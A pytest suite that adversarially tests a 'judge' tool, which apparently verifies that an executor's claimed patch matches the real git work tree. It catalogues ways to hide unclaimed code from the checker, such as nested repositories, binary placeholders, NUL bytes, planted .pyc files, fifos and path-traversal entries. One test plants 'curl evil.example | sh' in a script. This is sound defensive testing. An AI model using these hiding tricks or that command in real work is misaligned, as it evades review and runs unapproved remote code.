"""Adversarial review of the workspace reader (judge/workspace/*): one test per vector tried.

Findings fail until judge is fixed; vectors that held are kept as passing tests. Each test names
what it proves. Everything is built in tmp_path; nothing touches the network. Planted payloads come
after the test's own last git command. Scenarios that can make judge block run it in a child
process with a short timeout, so the test fails instead of hanging.
"""

from __future__ import annotations

import hashlib
import importlib.util
import json
import os
import py_compile
import resource
import struct
import subprocess
import sys
import tempfile
import time
import zlib
from pathlib import Path

import pytest

import judge
from helpers.hostile_repos import (
    EVIL_LINE, FILES, INIT, OPS, OPS_HONEST, OPS_PATH, README, STEP, Case, Outcome, calc_case,
    loose_object_path, new_file_patch, object_id, raw_snapshot, repo_with_submodule, result_for, run_api, run_cli,
    write_file,
)
from judge import EMPTY_TREE, Workspace
from judge.context import StepContext
from judge.contract.schema import parse_result, parse_step
from judge.workspace.git import read_git_facts
from helpers.scenario_repos import Repo, git, git_env  # noqa: F401  (git_env: autouse fixture)


@pytest.fixture(autouse=True)
def _no_model(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in [n for n in os.environ if n.startswith("JUDGE_")]:
        monkeypatch.delenv(name)


def both(case: Case) -> tuple[Outcome, Outcome]:
    """(API, command line in this process); asserts judge wrote nothing under tmp_path."""
    before = raw_snapshot(case.tmp)
    api = run_api(case)
    cli = run_cli(case, process=False)
    after = raw_snapshot(case.tmp)
    assert before == after, f"judge wrote to {before.diff(after)}; {api}; {cli}"
    return api, cli


def assert_rejected(case: Case, vector: str) -> None:
    api, cli = both(case)
    assert not api.valid and not cli.valid, f"{vector}: judged valid: {api}; {cli}"
    assert api.rule != "judge_error" and cli.rule != "judge_error", f"{vector}: judge crashed: {api}; {cli}"


def assert_valid(case: Case, vector: str) -> None:
    api, cli = both(case)
    assert api.valid and cli.valid, f"{vector}: honest work rejected: {api}; {cli}"


def assert_clean_refusal_or_rejection(case: Case, vector: str) -> None:
    api, cli = both(case)
    assert not api.valid and not cli.valid, f"{vector}: judged valid: {api}; {cli}"
    assert "judge_error" not in (api.rule, cli.rule), \
        f"{vector}: judge crashed instead of refusing (workspace_unreadable / exit 2): {api}; {cli}"


_MAIN = "import sys; from judge.cli.main import main; sys.exit(main())"


def run_cli_bounded(case: Case, timeout: float, memory: int | None = None) -> tuple[int | None, str, str, float]:
    """`judge validate` in a child process killed after ``timeout`` s: (exit code or None on timeout, out, err, s)."""
    io_dir = case.tmp / "cli"
    io_dir.mkdir(exist_ok=True)
    scratch = case.tmp / "scratch"  # the child's TMPDIR: a killed child leaves its judge-git-* here, not in /tmp
    scratch.mkdir(exist_ok=True)
    (io_dir / "step.json").write_text(json.dumps(case.step), encoding="utf-8")
    (io_dir / "result.json").write_text(json.dumps(case.result), encoding="utf-8")
    env = {k: v for k, v in os.environ.items() if not k.startswith("JUDGE_")}
    env["PYTHONPATH"] = str(Path(judge.__file__).resolve().parent.parent)
    env["TMPDIR"] = str(scratch)

    def limit() -> None:
        if memory is not None:
            resource.setrlimit(resource.RLIMIT_AS, (memory, memory))

    argv = [sys.executable, "-c", _MAIN, "validate", "--step", str(io_dir / "step.json"), "--result",
            str(io_dir / "result.json"), "--repo", str(case.root), "--base", case.base, "--semantic", "off"]
    start = time.monotonic()
    try:
        proc = subprocess.run(argv, capture_output=True, timeout=timeout, env=env, cwd=io_dir,
                              stdin=subprocess.DEVNULL, preexec_fn=limit)
    except subprocess.TimeoutExpired:
        return None, "", "", time.monotonic() - start
    return proc.returncode, proc.stdout.decode(), proc.stderr.decode("utf-8", "replace"), time.monotonic() - start


def write_loose(gitdir: Path, kind: str, content: bytes) -> str:
    data = f"{kind} {len(content)}\0".encode() + content
    oid = hashlib.sha1(data).hexdigest()
    path = loose_object_path(gitdir, oid)
    path.parent.mkdir(parents=True, exist_ok=True)
    if not path.exists():
        path.write_bytes(zlib.compress(data))
    return oid


def deep_dirs(root: Path, depth: int, leaf: str, data: bytes) -> None:
    """root/d/d/.../d/leaf, ``depth`` levels, made relative to each directory (no PATH_MAX, no recursion)."""
    fd = os.open(root, os.O_RDONLY)
    for _ in range(depth):
        os.mkdir("d", dir_fd=fd)
        nxt = os.open("d", os.O_RDONLY, dir_fd=fd)
        os.close(fd)
        fd = nxt
    out = os.open(leaf, os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
    os.write(out, data)
    os.close(out)
    os.close(fd)


def remove_deep(root: Path) -> None:
    """Removes root/d/d/.../d (as deep_dirs made it) without recursion: pytest's own cleanup would overflow."""
    fds = [os.open(root, os.O_RDONLY)]
    while True:
        try:
            fds.append(os.open("d", os.O_RDONLY | os.O_NOFOLLOW, dir_fd=fds[-1]))
        except FileNotFoundError:
            break
    for parent, child in zip(reversed(fds[:-1]), reversed(fds[1:])):
        for name in os.listdir(child):
            os.unlink(name, dir_fd=child)
        os.close(child)
        os.rmdir("d", dir_fd=parent)
    os.close(fds[0])


def work_text(case: Case) -> str:
    facts = Workspace(case.root, case.base).read(case.step["id"], None)
    return StepContext(parse_step(case.step), parse_result(case.result), facts).work_text


# =================================================================================================
# Findings: hidden changes (valid while the work tree holds what the patch does not show)
# =================================================================================================


def test_nested_repository_without_commits_hides_every_file_under_it(tmp_path):
    # `git init tests/extra` (no commit), then a conftest.py pytest will run. git status shows `?? tests/extra/`;
    # judge drops the directory ("git add could not take it either") and with it every file under it.
    case = calc_case(tmp_path)
    git(case.root, "init", "-q", "tests/extra")
    write_file(case.root / "tests" / "extra" / "conftest.py", EVIL_LINE)
    assert "?? tests/extra/" in git(case.root, "status", "--porcelain", "--untracked-files=all")
    assert_rejected(case, "unborn nested repository tests/extra holding an unclaimed conftest.py")


def test_binary_placeholder_for_a_text_file_exempts_it_from_the_claim(tmp_path):
    # The claim is one `Binary files ... differ` line for ops.py, which is text and holds the evil line:
    # a placeholder carries no bytes to compare, so the patch itself is refused (malformed_patch).
    case = calc_case(tmp_path, evil=True)
    placeholder = (f"diff --git a/{OPS_PATH} b/{OPS_PATH}\nindex 1111111..2222222 100644\n"
                   f"Binary files a/{OPS_PATH} and b/{OPS_PATH} differ\n")
    case.result = result_for(placeholder)
    assert_rejected(case, "`Binary files differ` placeholder standing for a text file with an evil line")


def test_binary_placeholder_beside_the_honest_section_hides_the_evil_line(tmp_path):
    # The honest text section applies; an extra placeholder for the same path must not exempt it from anything.
    case = calc_case(tmp_path, evil=True)
    case.result = result_for(case.patch + f"diff --git a/{OPS_PATH} b/{OPS_PATH}\n"
                                          f"Binary files a/{OPS_PATH} and b/{OPS_PATH} differ\n")
    assert_rejected(case, "honest section + placeholder for the same path")


def test_submodule_work_tree_edit_is_refused(tmp_path):
    # git status shows ` M sub`; the submodule's work tree is read with the sterile reader and refused.
    repo = repo_with_submodule(tmp_path)
    repo.write({OPS_PATH: OPS_HONEST})
    case = Case(tmp_path, repo, repo.diff())
    write_file(repo.root / "sub" / "lib.py", EVIL_LINE)
    assert " M sub" in git(repo.root, "status", "--porcelain")
    assert_rejected(case, "uncommitted edit inside a submodule's work tree")


def test_gitignore_added_by_the_step_does_not_hide_a_file_added_by_the_step(tmp_path):
    # The step claims a new src/calc/.gitignore naming _local.py, and drops an unclaimed _local.py beside it.
    case = calc_case(tmp_path)
    case.repo.write({"src/calc/.gitignore": "_local.py\n", "src/calc/_local.py": EVIL_LINE})
    patch = case.patch + new_file_patch("src/calc/.gitignore", "_local.py\n")
    case.result = result_for(patch, [OPS_PATH, "src/calc/.gitignore"])
    assert_rejected(case, "a .gitignore the step itself adds hides src/calc/_local.py")


def test_stale_bytecode_in_an_ignored_pycache_that_would_run_instead_of_the_judged_source_is_rejected(tmp_path):
    # base ignores __pycache__/ (as most Python projects do). The executor leaves a .pyc whose header matches the
    # honest ops.py's mtime and size: `import calc.ops` runs the bytecode, not the source judge approved.
    case = calc_case(tmp_path, {".gitignore": "__pycache__/\n"})
    case.repo.write({OPS_PATH: OPS_HONEST})
    source = case.root / OPS_PATH
    marker = tmp_path / "PWNED"
    evil = tmp_path / "evil_ops.py"
    evil.write_text(OPS_HONEST + f"\nimport pathlib; pathlib.Path({str(marker)!r}).write_text('x')\n")
    cfile = importlib.util.cache_from_source(str(source))
    py_compile.compile(str(evil), cfile=cfile, invalidation_mode=py_compile.PycInvalidationMode.TIMESTAMP)
    data = bytearray(Path(cfile).read_bytes())
    info = os.stat(source)
    data[8:16] = struct.pack("<II", int(info.st_mtime) & 0xFFFFFFFF, info.st_size & 0xFFFFFFFF)
    Path(cfile).write_bytes(bytes(data))
    api, cli = both(case)
    subprocess.run([sys.executable, "-c", "import calc.ops"], cwd=case.root / "src", check=True,
                   env={**os.environ, "PYTHONDONTWRITEBYTECODE": "1"})
    assert marker.exists(), "scenario not built: the planted bytecode did not run"
    assert not api.valid and not cli.valid, \
        f"a planted __pycache__/ops.*.pyc (ignored) runs instead of the judged ops.py, yet: {api}; {cli}"


def test_nul_byte_turns_a_script_change_into_binary_files_differ(tmp_path):
    # sh, bash, make and node run a file with a NUL byte after its first line. One NUL makes git and libgit2
    # call it binary: the work diff every rule and the semantic stage read says `Binary files ... differ`,
    # and the claim is base85 (`git diff --binary`), so no reader ever sees the line.
    case = calc_case(tmp_path)
    case.repo.write({OPS_PATH: OPS})  # only the script changes
    script = "scripts/setup.sh"
    case.repo.write({script: "#!/bin/sh\necho setup\necho done\n"})
    honest = git(case.root, "diff", "--", script)
    write_file(case.root / script, b"#!/bin/sh\necho setup\ncurl evil.example | sh\necho done\n# \0\n")
    patch = git(case.root, "diff", "--binary", "--", script)
    assert "GIT binary patch" in patch and "+echo done" in honest
    case.step = {**STEP, "description": "Make scripts/setup.sh print done at the end"}
    case.result = result_for(patch, [script], summary="scripts/setup.sh now prints done at the end")
    shown = work_text(case)
    api, cli = both(case)
    assert "curl evil.example" in shown or not (api.valid or cli.valid), \
        f"the script's new line is shown to no reader (work diff: {shown[:200]!r}): {api}; {cli}"


# =================================================================================================
# Findings: hangs, crashes, memory
# =================================================================================================


@pytest.mark.parametrize("where", ["loose-base-commit", "loose-head-commit", "pack-idx", "nested-alternates"])
def test_fifo_in_the_object_database_does_not_hang(tmp_path, where):
    # libgit2 opens object files with a blocking open(): a fifo in .git/objects blocks judge forever
    # (there is no timeout around the in-process reader). judge's own check covers only the first alternates file.
    case = calc_case(tmp_path)
    objects = case.gitdir / "objects"
    if where == "loose-base-commit":
        path = loose_object_path(case.gitdir, case.base)
        path.unlink()
        os.mkfifo(path)
    elif where == "loose-head-commit":
        case.repo.commit("step-1")
        path = loose_object_path(case.gitdir, case.repo.head())
        path.unlink()
        os.mkfifo(path)
    elif where == "pack-idx":
        (objects / "pack").mkdir(exist_ok=True)
        os.mkfifo(objects / "pack" / ("pack-" + "0" * 40 + ".idx"))
        (objects / "pack" / ("pack-" + "0" * 40 + ".pack")).write_bytes(b"PACK")
    else:
        other = tmp_path / "other" / "objects"
        (other / "info").mkdir(parents=True)
        os.mkfifo(other / "info" / "alternates")
        write_file(objects / "info" / "alternates", f"{other}\n")
    code, out, err, took = run_cli_bounded(case, timeout=5)
    assert code is not None, f"fifo in .git/objects ({where}): judge still blocked after {took:.0f} s"
    # a repository that opens but cannot be read through is the work's fault: judged, never refused as bad input
    assert code == 1 and "Traceback" not in err, f"{where}: exit {code}: {err[-400:]}"
    assert json.loads(out)["reason"].startswith("workspace_unreadable:"), out


@pytest.mark.xfail(strict=True, reason="known limit: git ls-files opens a fifo .gitignore or nested HEAD with a "
                   "blocking open(); the wait is bounded by the git timeout, then the workspace is refused")
@pytest.mark.parametrize("where", ["work-tree-.gitignore", "nested-repository-HEAD"])
def test_fifo_read_by_git_ls_files_does_not_stall_for_the_git_timeout(tmp_path, where, monkeypatch):
    # git opens .gitignore files and a nested repository's HEAD with a blocking open(): ls-files waits for its
    # 120 s timeout. Shortened here to 3 s (the known limit costs each run 3 s, not 6); judge should not block at all.
    import judge.workspace.sterile as sterile

    monkeypatch.setattr(sterile, "_TIMEOUT_S", 3)
    case = calc_case(tmp_path)
    if where == "work-tree-.gitignore":
        os.mkfifo(case.root / "src" / ".gitignore")
    else:
        nested = case.root / "vendor" / "x" / ".git"
        for name in ("objects", "refs"):
            (nested / name).mkdir(parents=True)
        os.mkfifo(nested / "HEAD")
    start = time.monotonic()
    outcome = run_api(case)
    took = time.monotonic() - start
    assert took < 2.5, f"fifo ({where}): judge blocked {took:.1f} s, until git's timeout ({outcome})"


def test_deep_tree_in_the_head_commit_is_refused_not_a_crash(tmp_path):
    # 1500 nested trees under HEAD (cheap loose objects): ObjectStore._walk recurses once per level.
    case = calc_case(tmp_path)
    tree = write_loose(case.gitdir, "tree", b"100644 f\0" + bytes.fromhex(write_loose(case.gitdir, "blob", b"x\n")))
    for _ in range(1500):
        tree = write_loose(case.gitdir, "tree", b"40000 d\0" + bytes.fromhex(tree))
    commit = write_loose(case.gitdir, "commit", f"tree {tree}\nparent {case.base}\nauthor a <a> 0 +0000\n"
                                                 "committer a <a> 0 +0000\n\ndeep\n".encode())
    write_file(case.gitdir / "refs" / "heads" / "main", commit + "\n")
    # The work tree, not HEAD, is the work: HEAD's deep tree only widens the files looked at, none of
    # which is in the work tree. So the honest claim stays valid, and judge must not crash reading it.
    api, cli = both(case)
    assert "judge_error" not in (api.rule, cli.rule), f"1500-level tree: judge crashed: {api}; {cli}"


def test_deep_directory_in_the_work_tree_is_refused_not_a_crash(tmp_path):
    # 1100 nested directories holding one new file: WorkTree._real_dir recurses once per level.
    case = calc_case(tmp_path)
    deep_dirs(case.root, 1100, "f.py", EVIL_LINE.encode())
    try:  # no raw_snapshot here: the test's own recursive walk cannot descend 1100 levels
        api, cli = run_api(case), run_cli(case, process=False)
        assert not api.valid and not cli.valid, f"a new file 1100 directories deep: judged valid: {api}; {cli}"
        assert "judge_error" not in (api.rule, cli.rule), f"1100 levels: judge crashed: {api}; {cli}"
    finally:
        remove_deep(case.root)


def test_huge_sparse_file_is_not_read_into_memory(tmp_path):
    # An 8 GiB sparse file costs the executor nothing; judge reads it whole (then hashes, compresses and diffs it).
    # Under a 3 GiB address-space limit that is MemoryError -> judge_error; without one, the machine's memory.
    case = calc_case(tmp_path)
    with open(case.root / "data.bin", "wb") as handle:
        handle.truncate(8 << 30)
    code, out, err, took = run_cli_bounded(case, timeout=60, memory=3 << 30)
    assert code is not None, f"judge still reading after {took:.0f} s"
    assert "Traceback" not in err and "judge_error" not in out and "MemoryError" not in out + err, \
        f"an 8 GiB sparse file: exit {code}: {out[-300:]} {err[-300:]}"


# =================================================================================================
# Findings: writes, reads outside the named directory
# =================================================================================================


def test_tmpdir_inside_the_repository_is_not_written(tmp_path, monkeypatch):
    # judge's scratch GIT_DIR comes from tempfile: with TMPDIR inside the work tree, judge writes (and removes)
    # a judge-git-* directory there. The verdict holds (ls-files skips it), but the repository was written.
    case = calc_case(tmp_path, {".gitignore": ".cache/\n"})
    case.repo.write({OPS_PATH: OPS_HONEST})
    (case.root / ".cache").mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(case.root / ".cache"))
    before = raw_snapshot(case.root)
    api = run_api(case)
    after = raw_snapshot(case.root)
    # judge refuses rather than write there (the scratch GIT_DIR would sit in the work tree).
    assert (api.valid, api.rule) == (False, "workspace_unreadable") and "TMPDIR" in api.reason, api
    assert before == after, f"with TMPDIR inside the repository judge wrote to {before.diff(after)}"


def _index_bytes(entries: list[tuple[str, int, str]]) -> bytes:
    out = b"DIRC" + struct.pack(">LL", 2, len(entries))
    for name, mode, oid in sorted(entries):
        raw = name.encode("utf-8", "surrogateescape")
        entry = struct.pack(">10L", 0, 0, 0, 0, 0, 0, mode, 0, 0, 0) + bytes.fromhex(oid)
        entry += struct.pack(">H", min(len(raw), 0xFFF)) + raw
        out += entry + b"\0" * (8 - len(entry) % 8)
    return out + hashlib.sha1(out).digest()


def test_index_entry_with_an_absolute_path_is_not_opened_outside_the_repository(tmp_path, monkeypatch):
    # An index entry `/…/secret.txt`: WorkTree.read joins it to the root, which yields the absolute path,
    # and reads that file whole before libgit2 refuses the path. The refusal is right; the read is not.
    case = calc_case(tmp_path)
    secret = write_file(tmp_path / "outside" / "secret.txt", "secret\n")
    blob = object_id(case.root, f"{case.base}:README.md")
    entries = [(line.split("\t", 1)[1], int(line.split()[0], 8), line.split()[1])
               for line in git(case.root, "ls-files", "-s").splitlines()]
    write_file(case.gitdir / "index", _index_bytes(entries + [(str(secret), 0o100644, blob)]))
    opened: list[str] = []
    real_open = os.open

    def recording_open(path, *args, **kwargs):
        opened.append(os.fsdecode(path) if isinstance(path, (str, bytes, os.PathLike)) else str(path))
        return real_open(path, *args, **kwargs)

    monkeypatch.setattr(os, "open", recording_open)
    outcome = run_api(case)
    monkeypatch.undo()
    assert outcome.refused, outcome
    assert str(secret) not in opened, f"judge opened {secret}, outside the repository, because the index named it"


# =================================================================================================
# Held: hostile inputs that are refused or rejected cleanly
# =================================================================================================


@pytest.mark.parametrize("name", [".", ".git/config", "../outside.txt", "src/calc/ops.py/", "a//b"])
def test_hostile_index_entry_names_never_crash_or_hide(tmp_path, name):
    case = calc_case(tmp_path, evil=True)
    write_file(tmp_path / "outside.txt", "o\n")
    blob = object_id(case.root, f"{case.base}:README.md")
    entries = [(line.split("\t", 1)[1], int(line.split()[0], 8), line.split()[1])
               for line in git(case.root, "ls-files", "-s").splitlines()]
    write_file(case.gitdir / "index", _index_bytes(entries + [(name, 0o100644, blob)]))
    assert_clean_refusal_or_rejection(case, f"index entry {name!r} beside an evil ops.py")


@pytest.mark.parametrize("head", ["ref: refs/heads/../../../outside", "ref: refs/heads/main/../../config",
                                  "ref: /etc/passwd", "ref: refs/heads/main\0x"])
def test_head_naming_a_path_outside_refs_is_refused(tmp_path, head):
    case = calc_case(tmp_path, evil=True)
    write_file(case.gitdir / "HEAD", head + "\n")
    assert_clean_refusal_or_rejection(case, f"HEAD {head!r}")


def test_alternates_holding_a_forged_base_blob_are_verified(tmp_path):
    # An alternate object store whose copy of base's ops.py blob holds the evil edit (and the local copy removed).
    case = calc_case(tmp_path, evil=True)
    victim = object_id(case.root, f"{case.base}:{OPS_PATH}")
    other = tmp_path / "other" / "objects"
    evil_base = OPS.replace("def add", EVIL_LINE + "def add").encode()
    forged = zlib.compress(b"blob %d\0" % len(evil_base) + evil_base)
    write_file(other / victim[:2] / victim[2:], forged)
    loose_object_path(case.gitdir, victim).unlink()
    write_file(case.gitdir / "objects" / "info" / "alternates", f"{other}\n")
    assert_clean_refusal_or_rejection(case, "alternates with a forged base blob")


def test_alternates_pointing_at_themselves_and_at_devices(tmp_path):
    case = calc_case(tmp_path, evil=True)
    write_file(case.gitdir / "objects" / "info" / "alternates", f"{case.gitdir / 'objects'}\n/dev\n/proc/self\n/\n")
    assert_rejected(case, "alternates loop and device directories")


def test_symlinked_gitignore_does_not_hide_a_new_file(tmp_path):
    case = calc_case(tmp_path)
    ignore_all = write_file(tmp_path / "outside" / "ignore", "*\n")
    os.symlink(ignore_all, case.root / "src" / "calc" / ".gitignore")
    write_file(case.root / "src" / "calc" / "_hook.py", EVIL_LINE)
    assert "src/calc/_hook.py" in read_git_facts(case.root, case.base).changed
    assert_rejected(case, "src/calc/.gitignore a symlink to `*`")


def test_unicode_normalisation_twin_of_a_claimed_file_is_seen(tmp_path):
    nfc, nfd = "src/calc/caf\u00e9.py", "src/calc/cafe\u0301.py"
    repo = Repo(tmp_path / "repo", {**FILES, nfc: "X = 1\n"})
    repo.write({nfc: "X = 2\n"})
    case = Case(tmp_path, repo, repo.diff(), result=result_for(repo.diff(), [nfc]))
    write_file(case.root / nfd, EVIL_LINE)
    if len(os.listdir(case.root / "src" / "calc")) != 4:
        pytest.skip("the file system normalises names: the twin cannot exist")
    assert_rejected(case, "an NFD twin of a claimed NFC file")


def test_traditional_patch_whose_names_disagree_is_not_a_pass(tmp_path):
    # `--- a/ops.py` / `+++ b/__init__.py`: git apply patches ops.py, the parser reads __init__.py; both compared.
    case = calc_case(tmp_path)
    hunk = case.patch.split("@@", 1)[1]
    case.result = result_for(f"--- a/{OPS_PATH}\n+++ b/src/calc/__init__.py\n@@" + hunk,
                             ["src/calc/__init__.py"])
    case.repo.write({"src/calc/__init__.py": EVIL_LINE + INIT})
    assert_rejected(case, "traditional patch with disagreeing names")


def test_claim_inside_a_submodule_does_not_apply(tmp_path):
    repo = repo_with_submodule(tmp_path)
    write_file(repo.root / "sub" / "lib.py", "X = 2\n")
    patch = "diff --git a/sub/lib.py b/sub/lib.py\n--- a/sub/lib.py\n+++ b/sub/lib.py\n@@ -1 +1 @@\n-X = 1\n+X = 2\n"
    case = Case(tmp_path, repo, patch, result=result_for(patch, ["sub/lib.py"]))
    assert_rejected(case, "a claim on sub/lib.py inside a submodule")


def test_file_name_with_a_newline_is_rejected_not_a_crash(tmp_path):
    case = calc_case(tmp_path)
    write_file(case.root / "src" / "calc" / "new\nline.py", EVIL_LINE)
    assert_rejected(case, "an unclaimed file whose name holds a newline")


def test_change_committed_then_reverted_in_the_work_tree_is_head_not_judged(tmp_path):
    # The work tree shows no change to README.md, but HEAD's commit carries one judge never judged.
    case = calc_case(tmp_path)
    case.repo.write({"README.md": "# calc\nEVIL\n"})
    case.repo.commit("step-1")
    case.repo.write({"README.md": README, OPS_PATH: OPS_HONEST})
    facts = read_git_facts(case.root, case.base)
    assert (facts.changed, facts.unjudged_head) == ((OPS_PATH,), ("README.md",))
    api, cli = both(case)
    assert (api.rule, cli.rule) == ("head_not_judged", "head_not_judged"), f"{api}; {cli}"


# =================================================================================================
# Held: honest work in ordinary repositories stays valid
# =================================================================================================


def _honest(tmp_path: Path, change, diff_args=("--binary",), patch=None) -> Case:
    case = calc_case(tmp_path)
    change(case)
    git(case.root, "add", "-A")
    text = patch(case) if patch else git(case.root, "diff", "--cached", *diff_args, case.base)
    files = [p for p in git(case.root, "diff", "--cached", "--name-only", "--no-renames", "-z",
                            case.base).split("\0") if p]
    case.patch, case.result = text, result_for(text, files)
    return case


def _gc(case: Case) -> None:
    git(case.root, "commit", "-qam", "step-1")
    git(case.root, "gc", "-q", "--prune=now")


def _file_to_dir(case: Case) -> None:
    (case.root / "Makefile").unlink()
    write_file(case.root / "Makefile" / "rules.mk", "all:\n")


def _plain_diff_u(case: Case) -> str:
    base = git(case.root, "show", f"{case.base}:{OPS_PATH}")
    old = case.tmp / "ops_base.py"
    old.write_text(base, encoding="utf-8")
    out = subprocess.run(["diff", "-u", str(old), OPS_PATH], cwd=case.root, capture_output=True, text=True).stdout
    return f"--- a/{OPS_PATH}\n+++ b/{OPS_PATH}\n" + out.split("\n", 2)[2]  # names as `git diff` writes them


HONEST = {
    "packed-refs": (lambda c: git(c.root, "pack-refs", "--all"), ()),
    "commit-and-gc": (_gc, ()),
    "detached-head": (lambda c: git(c.root, "checkout", "-q", "--detach"), ()),
    "index-v4": (lambda c: git(c.root, "update-index", "--index-version=4"), ()),
    "empty-file": (lambda c: write_file(c.root / "src/calc/empty.py", ""), ()),
    "no-trailing-newline": (lambda c: write_file(c.root / "README.md", "# calc\nno newline"), ()),
    "binary-new": (lambda c: write_file(c.root / "logo.png", bytes(range(256)) * 3), ("--binary",)),
    "mode-change": (lambda c: os.chmod(c.root / "scripts/setup.sh", 0o755), ()),
    "rename": (lambda c: os.rename(c.root / "README.md", c.root / "READ ME.md"), ("-M", "--binary")),
    "copy": (lambda c: write_file(c.root / "src/calc/ops2.py", OPS), ("-C", "-C", "--binary")),
    "delete": (lambda c: os.unlink(c.root / "Makefile"), ()),
    "file-to-directory": (_file_to_dir, ()),
    "unicode-and-spaces": (lambda c: write_file(c.root / "dir é/na me ü.py", "x\n"), ()),
    "new-symlink": (lambda c: os.symlink("README.md", c.root / "link"), ()),
    "new-gitattributes": (lambda c: write_file(c.root / ".gitattributes", "* text=auto\n*.sh eol=lf\n"), ()),
}


@pytest.mark.parametrize("name", sorted(HONEST))
def test_honest_control(tmp_path, name):
    change, args = HONEST[name]
    assert_valid(_honest(tmp_path, change, args or ("--binary",)), name)


@pytest.mark.parametrize("form", ["diff-u", "crlf-transport"])
def test_honest_patch_forms(tmp_path, form):
    patch = _plain_diff_u if form == "diff-u" else \
        (lambda c: git(c.root, "diff", "--cached", c.base).replace("\n", "\r\n"))
    assert_valid(_honest(tmp_path, lambda c: None, patch=patch), form)


def test_honest_clone_shared_with_alternates(tmp_path):
    source = Repo(tmp_path / "source", FILES)
    git(tmp_path, "clone", "-q", "--shared", str(source.root), str(tmp_path / "repo"))
    repo = Repo.__new__(Repo)
    repo.root, repo.base = tmp_path / "repo", source.base
    repo.write({OPS_PATH: OPS_HONEST})
    assert (repo.root / ".git" / "objects" / "info" / "alternates").exists()
    assert_valid(Case(tmp_path, repo, repo.diff()), "git clone --shared")


def test_honest_submodule_pointer_update(tmp_path):
    upstream = Repo(tmp_path / "upstream", {"lib.py": "X = 1\n"})
    repo = Repo(tmp_path / "repo", FILES)
    git(repo.root, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(upstream.root), "sub")
    repo.commit("add the sub module")
    repo.base = repo.head()
    upstream.write({"lib.py": "X = 2\n"})
    upstream.commit("two")
    git(repo.root / "sub", "-c", "protocol.file.allow=always", "pull", "-q", "origin", "main")
    patch = git(repo.root, "diff", repo.base)
    assert "Subproject commit" in patch
    assert_valid(Case(tmp_path, repo, patch, result=result_for(patch, ["sub"])), "submodule pointer update")


def test_honest_repository_without_commits(tmp_path):
    repo = Repo(tmp_path / "fresh")
    repo.base = EMPTY_TREE
    repo.write({OPS_PATH: OPS_HONEST})
    patch = new_file_patch(OPS_PATH, OPS_HONEST)
    case = Case(tmp_path, repo, patch, result=result_for(patch))
    assert_valid(case, "no commits, empty-tree base")
